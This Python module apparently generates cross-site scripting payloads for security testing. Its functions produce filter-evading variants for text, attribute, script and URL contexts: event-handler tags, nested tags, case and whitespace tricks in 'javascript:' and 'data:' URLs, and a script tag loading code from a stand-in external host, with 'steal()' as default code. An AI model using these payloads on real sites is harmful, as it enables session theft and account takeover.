"""Cross-site scripting: how the place in the page is left × what runs code × spelling of tags and addresses.

What browsers take is in the HTML standard (html.spec.whatwg.org, 13.2.5) and, for addresses, in the URL
standard (url.spec.whatwg.org, 4.4: tabs and line ends are dropped, leading controls and blanks too).
"""

from __future__ import annotations

import random
from typing import Literal

from pydantic import validate_call

from unseen.security.attacks.grammar import Idiom, Idioms, drawer, extras, forms
from unseen.security.attacks.spelling import cased, nested, word

Place = Literal["text", "double", "single", "bare", "script", "url"]

_QUOTES = {"double": '"', "single": "'", "bare": ""}
_LOADED = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("video src=x", "onerror"),
    ("iframe", "onload"),
    ("audio src=x", "onerror"),
)
_HANDLERS = ("onmouseover", "onfocus", "onclick", "onload")
_RARE_HANDLERS = ("onpointerenter", "onanimationstart", "onwheel", "oncut", "onbeforeinput")
_LEADS = (" ", "\t", "\n", "\x01", "\x0c")
_GAPS = (" ", " ", "\t", "\n", "\f", "/")


@validate_call
def idioms(
    *, places: tuple[Place, ...] = ("text",), code: str = "steal()", extra: tuple[str, ...] = ()
) -> Idioms:
    """Give the idioms of cross-site scripting.

    Args:
        places: where the text stands in the page: between tags, in an attribute's value in double or single
            quotes or in none, in a script, or as an address.
        code: what is run; without quotes, blanks and `>`.
        extra: idioms of the item's own.
    """
    found: dict[str, Idiom] = {}

    def tag(rng: random.Random) -> str:
        return rng.choice((_script, _loaded))(rng, code)

    if "text" in places:
        found |= {
            "script": lambda rng: _script(rng, code),
            "handler": lambda rng: _loaded(rng, code),
            "nested": lambda rng: _nested(rng, code),
            "address": lambda rng: _address_tag(rng, code),
            "closer": lambda rng: (
                rng.choice(("-->", "]]>", "</title>", "</textarea>", "</style>")) + tag(rng)
            ),
        }

    def attribute(quote: str, handlers: tuple[str, ...]) -> Idiom:
        def draw_one(rng: random.Random) -> str:
            name, gap, mark = (
                cased(rng, rng.choice(handlers)),
                rng.choice(_GAPS[:-1]),
                rng.choice((quote, "")),
            )
            last = f"{gap}{word(rng)}={quote}" if quote else ""
            return f"{word(rng)}{quote}{gap}{name}={mark}{code}{mark}{last}"

        return draw_one

    def left(quote: str) -> Idiom:
        return lambda rng: f"{word(rng)}{quote}{rng.choice(('', ' ', '/'))}>{tag(rng)}"

    for place, quote in _QUOTES.items():
        if place in places:
            found[f"attribute_{place}"] = attribute(quote, _HANDLERS)
            found[f"rare_{place}"] = attribute(quote, _RARE_HANDLERS)
            found[f"left_{place}"] = left(quote)
            if quote:
                entity = "&quot;" if quote == '"' else "&#39;"
                found[f"entity_{place}"] = forms(
                    lambda rng, text: text.replace("{w}", word(rng)),
                    f"{{w}}\\{quote} onfocus=\\{quote}{code}",
                    f"{{w}}{entity} onfocus={entity}{code}",
                )
    if "script" in places:
        found |= {
            "script_end": lambda rng: f"</{cased(rng, 'script')}>{tag(rng)}",
            "script_end_spelled": lambda rng: f"{_end(rng)}{tag(rng)}",
            "script_end_open": lambda rng: f"{_end(rng)}{_loaded(rng, code)}<script>",
        }
    if "url" in places:
        found |= {
            "javascript": lambda rng: f"{cased(rng, 'javascript')}:{code}",
            "javascript_split": lambda rng: _split(rng, "javascript:") + code,
            "javascript_led": lambda rng: f"{rng.choice(_LEADS)}{cased(rng, 'javascript')}:{code}",
            "data": lambda rng: cased(rng, "data") + f":text/html,<script>{code}</script>",
            "javascript_comment": lambda rng: f"javascript://{word(rng)}.example/%0a{code}",
        }
    return {**found, **extras(lambda rng, text: text.replace("{w}", word(rng)), extra)}


draw = drawer(idioms)


def _script(rng: random.Random, code: str) -> str:
    gap, name = rng.choice(_GAPS), cased(rng, "script")
    if rng.random() < 0.3:
        return f"<{name}{gap}src=//{word(rng)}.example></{cased(rng, 'script')}>"
    return f"<{name}{rng.choice(('', gap, gap + word(rng)))}>{code}</{cased(rng, 'script')}>"


def _loaded(rng: random.Random, code: str) -> str:
    tag, event = rng.choice(_LOADED)
    name, *rest = tag.split(" ")
    gap, quote = rng.choice(_GAPS), rng.choice(("", "'", '"'))
    parts = [cased(rng, name), *rest, f"{cased(rng, event)}{rng.choice(('', ' '))}={quote}{code}{quote}"]
    return f"<{gap.join(parts)}{rng.choice(('>', ' >'))}"


def _nested(rng: random.Random, code: str) -> str:
    """Nest tags, for filters that remove them only once."""
    if rng.random() < 0.5:
        return f"<{nested(rng, 'script')}>{code}</{nested(rng, 'script')}>"
    return f"<scr<script>ipt>{code}</scr</script>ipt>"


def _address_tag(rng: random.Random, code: str) -> str:
    address = _split(rng, "javascript:") + code
    return rng.choice(
        (
            f'<a href="{address}">{word(rng)}</a>',
            f'<iframe src="{address}"></iframe>',
            f'<form action="{address}"><input type=submit></form>',
        )
    )


def _split(rng: random.Random, scheme: str) -> str:
    cut = rng.randint(1, len(scheme) - 1)
    return cased(rng, scheme[:cut]) + rng.choice(("", "\t", "\n", "\r")) + cased(rng, scheme[cut:])


def _end(rng: random.Random) -> str:
    return f"</{cased(rng, 'script')}{rng.choice(('', ' ', chr(10), chr(9), '/', ' x'))}>"
